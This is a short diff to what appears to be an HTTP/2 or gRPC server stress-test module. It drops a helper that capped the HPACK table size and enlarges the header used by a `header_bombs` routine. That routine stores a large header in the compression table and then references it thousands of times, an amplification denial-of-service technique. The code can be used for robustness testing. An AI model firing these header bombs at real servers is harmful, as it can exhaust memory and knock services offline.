@@ -100,10 +100,6 @@ class Connection:
         frame.flags.add("END_HEADERS")
         return frame
 
-    def limit_table(self, size_bytes: int) -> None:
-        """Keep HPACK's table of what was sent to a size."""
-        self._encoder.header_table_size = size_bytes
-
     def close(self) -> None:
         """Leave without a word."""
         self.socket.close()
@@ -209,9 +205,8 @@ def large_metadata(address: str) -> Iterator[int]:
 def header_bombs(address: str) -> Iterator[int]:
     """A large header kept in HPACK's table, then named thousands of times in a few bytes."""
     connection = Connection(address)
-    # As much as the server's table holds; more would be an error, and end the connection.
-    connection.limit_table(1024)
-    bomb = ("x-bomb", "a" * 900)
+    # As much as HPACK's table holds; what is more would not be kept.
+    bomb = ("x-bomb", "a" * 3900)
     frames = [connection.request(CHECK, extra=(bomb,))]
     connection.send(join([*frames, data(frames[0].stream_id, EMPTY_MESSAGE, ends=True)]))
     while True:
